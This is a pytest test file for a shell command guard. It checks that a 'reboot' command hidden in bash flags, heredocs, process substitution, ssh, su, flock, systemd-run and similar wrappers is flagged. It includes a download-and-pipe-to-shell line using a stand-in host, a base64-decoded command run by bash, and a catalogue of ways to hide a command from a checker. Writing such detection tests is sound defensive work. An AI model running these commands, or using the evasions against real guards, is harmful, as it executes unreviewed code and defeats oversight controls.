"""Shells and their like: where in their words the command stands, and where it is read from."""

import pytest

from stentor.guard import examine
from stentor.guard.options import shell_words


def rules(line: str) -> set[str]:
    return {finding.rule for finding in examine(line)}


@pytest.mark.parametrize(
    ("words", "letters", "operands"),
    [
        ("bash -euo pipefail -c x y", "euoc", "x y"),
        ("bash -o pipefail -O extglob x", "oO", "x"),
        ("bash -co pipefail x", "co", "x"),
        ("bash +o posix -c x", "c", "x"),
        ("sh -c -e x -y", "ce", "x -y"),
        ("bash --rcfile f --norc -c x", "c", "x"),
        ("bash -s -- a", "s", "a"),
        ("bash - x", "", "x"),
        ("sh", "", ""),
    ],
)
def test_words_of_a_shell_are_read_as_it_reads_them(words: str, letters: str, operands: str) -> None:
    assert shell_words(tuple(words.split())) == (letters, tuple(operands.split()))


@pytest.mark.parametrize(
    "line",
    [
        "bash -euo pipefail -c reboot",
        "bash -O extglob -c reboot",
        "bash --rcfile f -c reboot",
        "sh -c -e reboot",
        "bash $FLAGS -c reboot",
        "fish --command=reboot",
        "fish -C reboot",
        "bash -euo pipefail <<E\nreboot\nE",
        "echo reboot | bash -euo pipefail",
        "ssh h sudo bash -euo pipefail <<E\nreboot\nE",
        "bash /proc/self/fd/0 <<E\nreboot\nE",
        "bash <(echo reboot)",
        "source <(printf 'reboot\\n')",
        "echo reboot > f; bash < f",
        "echo reboot > f; sudo bash < f",
        "echo reboot > f; bash -euo pipefail f",
        "cat <<E > f\nreboot\nE\nsh f",
        "script -qc'reboot' /dev/null",
        "script --command=reboot /dev/null",
        "script -q /dev/null reboot",
        "su -creboot",
        "su - bob --command=reboot",
        "flock -n f -c reboot",
        "flock -n f reboot",
        "flock f -creboot",
        "flock f sudo reboot -c f",
        "ssh -p 22 h -- reboot",
        "ssh h -p 22 reboot",
        "systemd-run -t reboot",
        "systemd-run -G --on-boot 5 reboot",
        "trap -- reboot EXIT",
        "parallel ::: reboot",
        "cat <<< $(reboot)",
        "a[$(reboot)]=1",
    ],
)
def test_command_is_found_where_the_program_takes_it_from(line: str) -> None:
    assert rules(line) == {"power"}


def test_downloaded_file_that_a_shell_is_fed_is_questioned() -> None:
    assert rules("curl -o f https://x.io/a; sh < f") == {"pipe-to-shell"}


@pytest.mark.parametrize("line", ["bash <(cat f)", "source <(cat f)", 'bash -c "$(base64 -d f)"'])
def test_output_that_a_shell_reads_is_code_which_nobody_has_read(line: str) -> None:
    assert rules(line) == {"unknown-code"}


@pytest.mark.parametrize(
    "line",
    [
        "bash -n -o pipefail -c reboot",
        "bash -euo pipefail script.sh reboot",
        "source <(echo export A=b)",
        "bash < f",
        "trap - EXIT",
        "trap -- - EXIT",
        "flock -n f -c uptime",
        "flock f grep -c reboot f",
        "flock f rsync -zc reboot h:",
        "script -c uptime f",
        "script -q f",
        "echo reboot > f; cat < f",
    ],
)
def test_harmless_lines_are_not_questioned(line: str) -> None:
    assert rules(line) == set()
